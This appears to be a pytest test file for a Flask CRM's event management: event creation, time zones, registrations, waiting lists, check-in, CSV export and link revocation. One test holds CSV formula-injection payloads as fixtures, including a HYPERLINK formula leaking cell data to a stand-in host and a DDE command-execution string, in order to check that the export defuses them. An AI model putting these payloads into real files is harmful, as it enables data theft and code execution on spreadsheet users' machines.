import csv
import io
import json
from collections.abc import Callable
from datetime import UTC, date, datetime, timedelta
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import select

from crm.auth.models import Role, User
from crm.events import services
from crm.events.models import (
    DEFAULT_PUBLIC_REGISTRATIONS_PER_HOUR,
    Event,
    EventStatus,
    Registration,
    RegistrationStatus,
)
from crm.extensions import db
from crm.leads.models import Stage
from crm.mail.models import OutboxMessage
from tests.helpers import submit_form


def event_form(**overrides: Any) -> dict[str, Any]:
    return {
        "title_en": "Isotope Day",
        "title_de": "Isotopentag",
        "slug": "isotope-day",
        "timezone": "Europe/Berlin",
        "starts_local": "2027-03-28T09:30",
        "ends_local": "2027-03-28T17:00",
        "city": "Dresden",
        "country": "DE",
        "capacity": "25",
        "organiser_name": "WFS",
        "organiser_email": "events@wfs.example",
        "reminder_offsets": "7, 1",
    } | overrides


def test_staff_pages_need_a_login(client: FlaskClient, event: Event) -> None:
    response = client.get(f"/staff/events/{event.id}")
    assert response.status_code == 302
    assert "/login" in response.headers["Location"]


def test_viewers_may_not_create_events(
    client: FlaskClient, create_user: Callable[..., User], login: Callable[[User], None]
) -> None:
    login(create_user(Role.viewer))
    assert client.get("/staff/events/new").status_code == 403


def test_creating_a_timed_event_stores_local_times_as_utc(staff_client: FlaskClient) -> None:
    response = submit_form(staff_client, "/staff/events/new", event_form())
    assert response.status_code == 302
    event = db.session.scalar(select(Event))
    # 28 March 2027 is the first day of summer time in Berlin: 09:30 CEST is 07:30 UTC.
    assert event.starts_at == datetime(2027, 3, 28, 7, 30, tzinfo=UTC)
    assert event.status == EventStatus.draft


def test_creating_an_all_day_event(staff_client: FlaskClient) -> None:
    data = event_form(is_all_day="y", starts_on="2027-04-21", ends_on="2027-04-22")
    submit_form(staff_client, "/staff/events/new", data)
    event = db.session.scalar(select(Event))
    assert event.is_all_day
    assert event.ends_on.isoformat() == "2027-04-22"


def test_an_event_ending_before_it_starts_is_refused(staff_client: FlaskClient) -> None:
    response = submit_form(
        staff_client, "/staff/events/new", event_form(ends_local="2027-03-28T08:00")
    )
    assert "The end must be after the start." in response.text
    assert db.session.scalar(select(Event)) is None


@pytest.mark.parametrize(
    ("change", "message_next_to"),
    [
        ({"starts_local": "0001-01-01T00:00", "ends_local": "0001-01-01T10:00"}, "starts_local"),
        ({"timezone": "America/New_York", "ends_local": "9999-12-31T23:00"}, "ends_local"),
        ({"is_all_day": "y", "starts_on": "2027-04-21", "ends_on": "9999-12-31"}, "ends_on"),
        ({"opens_local": "0001-01-01T00:00"}, "opens_local"),
    ],
)
def test_days_and_times_outside_the_years_1900_to_2999_are_refused(
    staff_client: FlaskClient, change: dict[str, str], message_next_to: str
) -> None:
    response = submit_form(staff_client, "/staff/events/new", event_form(**change))
    assert response.status_code == 422
    assert f'id="{message_next_to}-error">Give a date between 1900 and 2999.' in response.text
    assert db.session.scalar(select(Event)) is None


def test_malformed_questions_are_refused(staff_client: FlaskClient) -> None:
    response = submit_form(staff_client, "/staff/events/new", event_form(questions_json="[{"))
    assert response.status_code == 422
    assert "Not valid JSON" in response.text


def test_staff_write_the_event_texts_in_both_languages(staff_client: FlaskClient) -> None:
    texts = {
        "description_en": "Tours of the hot cells.",
        "description_de": "Führungen durch die heißen Zellen.",
        "venue_en": "Innovation Centre",
        "venue_de": "Innovationszentrum",
    }
    response = submit_form(staff_client, "/staff/events/new", event_form(**texts))
    assert response.status_code == 302
    event = db.session.scalars(select(Event)).one()
    assert (event.title_en, event.title_de) == ("Isotope Day", "Isotopentag")
    assert {name: getattr(event, name) for name in texts} == texts
    form_page = staff_client.get(f"/staff/events/{event.id}/edit").text
    assert 'value="Isotopentag"' in form_page and "Führungen durch die heißen Zellen." in form_page


def test_an_event_with_a_german_title_only_is_saved(staff_client: FlaskClient) -> None:
    response = submit_form(staff_client, "/staff/events/new", event_form(title_en=""))
    assert response.status_code == 302
    event = db.session.scalars(select(Event)).one()
    assert (event.title_en, event.title_de) == ("", "Isotopentag")


def test_an_event_edit_without_a_title_is_sent_back_with_422(
    staff_client: FlaskClient, event: Event
) -> None:
    url = f"/staff/events/{event.id}/edit"
    response = submit_form(
        staff_client, url, event_form(title_en="", title_de=" ", slug=event.slug)
    )
    assert response.status_code == 422
    assert 'id="title_en-error"' in response.text and 'id="title_de-error"' in response.text
    db.session.refresh(event)
    assert event.title_en != ""


def test_publishing_makes_the_event_public(
    staff_client: FlaskClient, create_event: Callable[..., Event]
) -> None:
    event = create_event(status=EventStatus.draft)
    submit_form(
        staff_client, f"/staff/events/{event.id}/publish", {}, form_page=f"/staff/events/{event.id}"
    )
    assert staff_client.get(f"/events/{event.slug}").status_code == 200


def test_moving_an_event_sends_updated_invitations(
    staff_client: FlaskClient, event: Event, create_registration: Callable[..., Registration]
) -> None:
    registration = create_registration(event)
    submit_form(
        staff_client,
        f"/staff/events/{event.id}/edit",
        event_form(
            slug=event.slug,
            capacity="10",
            starts_local="2027-05-01T10:00",
            ends_local="2027-05-01T12:00",
        ),
    )
    keys = [message.key for message in db.session.scalars(select(OutboxMessage))]
    assert f"change:registration:{registration.id}:seq:1" in keys


def test_cancelling_the_event_tells_everyone(
    staff_client: FlaskClient,
    create_event: Callable[..., Event],
    create_registration: Callable[..., Registration],
) -> None:
    event = create_event(capacity=1)
    seated, waiting = create_registration(event), create_registration(event)
    submit_form(
        staff_client, f"/staff/events/{event.id}/cancel", {}, form_page=f"/staff/events/{event.id}"
    )
    cancellations = db.session.scalars(
        select(OutboxMessage).where(OutboxMessage.key.startswith("cancellation:"))
    ).all()
    assert {message.to_email for message in cancellations} == {seated.email, waiting.email}
    assert "has been cancelled" in cancellations[0].text_body
    assert event.status == EventStatus.cancelled


def test_raising_the_capacity_promotes_the_waiting_list(
    staff_client: FlaskClient,
    create_event: Callable[..., Event],
    create_registration: Callable[..., Registration],
) -> None:
    event = create_event(capacity=1)
    create_registration(event)
    waiting = create_registration(event)
    submit_form(
        staff_client,
        f"/staff/events/{event.id}/capacity",
        {"capacity": "2"},
        form_page=f"/staff/events/{event.id}",
    )
    db.session.refresh(waiting)
    assert waiting.status == RegistrationStatus.confirmed


def test_attendees_filter_by_status_country_and_company_stage(
    staff_client: FlaskClient,
    create_event: Callable[..., Event],
    create_registration: Callable[..., Registration],
) -> None:
    event = create_event(capacity=1)
    create_registration(event, name="Seated Person", country="FR")
    create_registration(event, name="Waiting Person", country="FR")
    qualified = create_registration(event, name="Italian Person", country="IT")
    qualified.company.stage = Stage.qualified
    db.session.commit()
    by_status = staff_client.get(f"/staff/events/{event.id}?status=waitlisted").text
    assert "Waiting Person" in by_status and "Seated Person" not in by_status
    by_country = staff_client.get(f"/staff/events/{event.id}?country=IT").text
    assert "Italian Person" in by_country and "Seated Person" not in by_country
    by_stage = staff_client.get(f"/staff/events/{event.id}?stage=qualified").text
    assert "Italian Person" in by_stage and "Waiting Person" not in by_stage


def test_an_unknown_filter_value_is_a_400(staff_client: FlaskClient, event: Event) -> None:
    assert staff_client.get(f"/staff/events/{event.id}?status=sleeping").status_code == 400


def test_attendees_export_as_csv(
    staff_client: FlaskClient, event: Event, create_registration: Callable[..., Registration]
) -> None:
    registration = create_registration(event, name="Lise Meitner")
    response = staff_client.get(f"/staff/events/{event.id}/attendees.csv")
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert response.mimetype == "text/csv"
    assert rows[0]["name"] == "Lise Meitner"
    assert rows[0]["email"] == registration.email


def test_the_attendees_export_defuses_formulas_whatever_the_separator(
    staff_client: FlaskClient, event: Event, create_registration: Callable[..., Registration]
) -> None:
    create_registration(
        event,
        company_name='=HYPERLINK("evil.example?leak="&C2;"Open")',
        position="@SUM(1+1)*cmd|' /C calc'!A0",
        name="Eve; =1+2",
    )
    response = staff_client.get(f"/staff/events/{event.id}/attendees.csv")
    [row] = list(csv.DictReader(io.StringIO(response.text)))
    assert row["company"] == '\'=HYPERLINK("evil.example?leak="&C2;"Open")'
    assert row["position"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["name"] == "Eve;' =1+2"


def test_staff_add_a_registrant_by_hand(staff_client: FlaskClient, event: Event) -> None:
    response = submit_form(
        staff_client,
        f"/staff/events/{event.id}/add",
        {
            "name": "Otto Hahn",
            "email": "otto@kwi.example",
            "company": "KWI",
            "country": "DE",
            "language": "de",
            "consent": "y",
        },
    )
    assert response.status_code == 302
    registration = db.session.scalar(select(Registration))
    assert registration.name == "Otto Hahn"
    assert registration.status == RegistrationStatus.confirmed


def test_adding_a_registrant_without_their_details_is_sent_back_with_422(
    staff_client: FlaskClient, event: Event
) -> None:
    response = submit_form(staff_client, f"/staff/events/{event.id}/add", {"name": ""})
    assert response.status_code == 422
    assert db.session.scalar(select(Registration)) is None


def test_staff_cancel_a_registration(
    staff_client: FlaskClient, event: Event, create_registration: Callable[..., Registration]
) -> None:
    registration = create_registration(event)
    submit_form(
        staff_client,
        f"/staff/events/{event.id}/registrations/{registration.id}/cancel",
        {},
        form_page=f"/staff/events/{event.id}",
    )
    db.session.refresh(registration)
    assert registration.status == RegistrationStatus.cancelled


def test_staff_move_someone_from_the_waiting_list_to_a_free_seat(
    staff_client: FlaskClient,
    create_event: Callable[..., Event],
    create_registration: Callable[..., Registration],
) -> None:
    event = create_event(capacity=0)
    waiting = create_registration(event)
    event.capacity = 1
    db.session.commit()
    submit_form(
        staff_client,
        f"/staff/events/{event.id}/registrations/{waiting.id}/confirm",
        {},
        form_page=f"/staff/events/{event.id}",
    )
    db.session.refresh(waiting)
    assert waiting.status == RegistrationStatus.confirmed


def test_no_one_is_moved_from_the_waiting_list_into_a_full_event(
    staff_client: FlaskClient,
    create_event: Callable[..., Event],
    create_registration: Callable[..., Registration],
) -> None:
    event = create_event(capacity=1)
    create_registration(event)
    waiting = create_registration(event)
    response = submit_form(
        staff_client,
        f"/staff/events/{event.id}/registrations/{waiting.id}/confirm",
        {},
        form_page=f"/staff/events/{event.id}",
    )
    assert "No seat is free" in staff_client.get(response.headers["Location"]).text
    db.session.refresh(waiting)
    assert waiting.status == RegistrationStatus.waitlisted


def test_check_in_at_the_door(
    staff_client: FlaskClient, event: Event, create_registration: Callable[..., Registration]
) -> None:
    registration = create_registration(event, name="Irène Joliot-Curie")
    page = staff_client.get(f"/staff/events/{event.id}/check-in?q=joliot")
    assert "Check in Irène Joliot-Curie" in page.text
    assert '<ul class="check-in" aria-label="Confirmed attendees">' in page.text
    submit_form(
        staff_client,
        f"/staff/events/{event.id}/registrations/{registration.id}/check-in",
        {"q": "joliot"},
        form_page=f"/staff/events/{event.id}/check-in",
    )
    db.session.refresh(registration)
    assert registration.checked_in_at is not None


def test_no_shows_are_marked_after_the_event(
    staff_client: FlaskClient,
    event: Event,
    create_registration: Callable[..., Registration],
    clock: Callable[[object], None],
) -> None:
    present, absent = create_registration(event), create_registration(event)
    present.checked_in_at = event.begins_at
    db.session.commit()
    clock(event.finishes_at + timedelta(hours=1))
    submit_form(
        staff_client,
        f"/staff/events/{event.id}/no-shows",
        {},
        form_page=f"/staff/events/{event.id}",
    )
    db.session.refresh(absent)
    db.session.refresh(present)
    assert absent.is_no_show
    assert not present.is_no_show


def test_no_shows_cannot_be_marked_before_the_event(
    staff_client: FlaskClient, event: Event, create_registration: Callable[..., Registration]
) -> None:
    registration = create_registration(event)
    response = submit_form(
        staff_client,
        f"/staff/events/{event.id}/no-shows",
        {},
        form_page=f"/staff/events/{event.id}",
    )
    assert "only after the event" in staff_client.get(response.headers["Location"]).text
    db.session.refresh(registration)
    assert not registration.is_no_show


def test_saving_an_unchanged_event_sends_no_mail(
    staff_client: FlaskClient,
    create_event: Callable[..., Event],
    create_registration: Callable[..., Registration],
) -> None:
    event = create_event(
        is_all_day=True,
        starts_on=date(2027, 4, 21),
        ends_on=date(2027, 4, 22),
        starts_at=None,
        ends_at=None,
    )
    create_registration(event)
    form_page = staff_client.get(f"/staff/events/{event.id}/edit").text
    assert 'value="2027-04-21"' in form_page
    data = {
        "title_en": event.title_en,
        "slug": event.slug,
        "is_all_day": "y",
        "starts_on": "2027-04-21",
        "ends_on": "2027-04-22",
        "timezone": event.timezone,
        "city": event.city,
        "country": event.country,
        "capacity": "10",
        "venue_en": event.venue_en,
        "organiser_name": event.organiser_name,
        "organiser_email": event.organiser_email,
        "reminder_offsets": "7, 1",
        "questions_json": json.dumps(event.questions),
    }
    response = submit_form(staff_client, f"/staff/events/{event.id}/edit", data)
    assert response.status_code == 302
    keys = [message.key for message in db.session.scalars(select(OutboxMessage))]
    assert not any(key.startswith("change:") for key in keys)
    db.session.refresh(event)
    assert event.ends_on == date(2027, 4, 22)
    assert event.questions[0]["key"] == "dietary"


def test_the_event_list_counts_the_confirmed_seats_of_each_event(
    staff_client: FlaskClient,
    create_event: Callable[..., Event],
    create_registration: Callable[..., Registration],
) -> None:
    busy = create_event(title="Busy forum", capacity=1)
    create_event(title="Quiet forum")
    create_registration(busy)
    create_registration(busy)  # waiting list: not a confirmed seat

    response = staff_client.get("/staff/events/")

    assert response.status_code == 200
    row = response.text.split("Busy forum", 1)[1].split("</tr>", 1)[0]
    assert "<td>1 / 1</td>" in row
    assert "Quiet forum" in response.text


def test_staff_revoke_a_private_link_and_registering_again_mails_a_new_one(
    app: Flask,
    staff_client: FlaskClient,
    event: Event,
    create_registration: Callable[..., Registration],
    outbox: Callable[[], list[OutboxMessage]],
) -> None:
    registration = create_registration(event, email="anna@isotopia.example")
    old_link = "/r/" + outbox()[0].text_body.split("/r/", 1)[1].split()[0]
    visitor = app.test_client()
    assert visitor.get(old_link).status_code == 303

    response = submit_form(
        staff_client,
        f"/staff/events/{event.id}/registrations/{registration.id}/revoke-link",
        {},
        form_page=f"/staff/events/{event.id}",
    )

    assert response.status_code == 302
    assert visitor.get(old_link).status_code == 404
    services.register(
        event,
        services.RegistrationDetails(
            name="Anna",
            email="anna@isotopia.example",
            company_name="Isotopia",
            consent=True,
            country="DE",
        ),
    )
    db.session.commit()
    new_link = "/r/" + outbox()[-1].text_body.split("/r/", 1)[1].split()[0]
    assert new_link != old_link
    assert visitor.get(new_link).status_code == 303


def test_viewers_cannot_revoke_a_private_link(
    client: FlaskClient,
    create_user: Callable[..., User],
    login: Callable[[User], None],
    event: Event,
    create_registration: Callable[..., Registration],
) -> None:
    registration = create_registration(event)
    nonce = registration.manage_nonce
    login(create_user(Role.viewer))
    response = submit_form(
        client,
        f"/staff/events/{event.id}/registrations/{registration.id}/revoke-link",
        {},
        form_page=f"/staff/events/{event.id}",
    )
    assert response.status_code == 403
    db.session.refresh(registration)
    assert registration.manage_nonce == nonce


def test_staff_raise_the_hourly_cap_on_public_registrations(
    staff_client: FlaskClient, create_event: Callable[..., Event]
) -> None:
    event = create_event(slug="isotope-day")
    assert event.public_registrations_per_hour == DEFAULT_PUBLIC_REGISTRATIONS_PER_HOUR
    response = submit_form(
        staff_client,
        f"/staff/events/{event.id}/edit",
        event_form(public_registrations_per_hour="500"),
    )
    assert response.status_code == 302
    db.session.refresh(event)
    assert event.public_registrations_per_hour == 500


def test_a_negative_hourly_cap_is_refused(
    staff_client: FlaskClient, create_event: Callable[..., Event]
) -> None:
    event = create_event(slug="isotope-day")
    response = submit_form(
        staff_client,
        f"/staff/events/{event.id}/edit",
        event_form(public_registrations_per_hour="-1"),
    )
    assert response.status_code == 422
    assert 'id="public_registrations_per_hour-error"' in response.text
    db.session.refresh(event)
    assert event.public_registrations_per_hour == DEFAULT_PUBLIC_REGISTRATIONS_PER_HOUR
